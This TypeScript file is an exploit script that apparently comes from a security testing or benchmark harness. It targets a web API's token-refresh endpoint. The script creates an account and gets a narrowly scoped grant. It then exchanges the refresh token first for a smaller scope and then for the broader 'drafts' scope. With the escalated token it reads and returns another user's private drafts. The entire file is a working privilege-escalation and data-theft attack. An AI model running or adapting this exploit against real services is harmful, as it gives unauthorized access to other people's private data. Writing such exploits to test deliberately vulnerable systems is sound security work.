import { randomUUID } from 'node:crypto';
import { exploit } from '#attack';

interface Tokens {
  access_token: string;
  refresh_token: string;
}

/** With `fetch`, first less and then more. */
export default exploit(async ({ target: { url }, victim }) => {
  const send = (path: string, body: object, headers = {}) =>
    fetch(url + path, {
      method: 'POST',
      body: JSON.stringify(body),
      headers: { 'content-type': 'application/json', ...headers },
    });
  const opened = await send('/accounts', { email: `${randomUUID()}@example.net` });
  const account = (await opened.json()) as { key: string };
  const first = await send('/grants', { scope: 'posts drafts:own' }, { 'x-account-key': account.key });
  let { refresh_token } = (await first.json()) as Tokens;
  for (const scope of ['drafts:own', 'drafts']) {
    const response = await send('/tokens', { refresh_token, scope });
    if (!response.ok) return undefined;
    const tokens = (await response.json()) as Tokens;
    refresh_token = tokens.refresh_token;
    const shown = await fetch(`${url}/drafts`, { headers: { authorization: `Bearer ${tokens.access_token}` } });
    const drafts = shown.ok ? ((await shown.json()) as { author: string; text: string }[]) : [];
    const stolen = drafts.filter(({ author }) => author === victim);
    if (stolen.length > 0) return stolen[0]!.text;
  }
  return undefined;
});
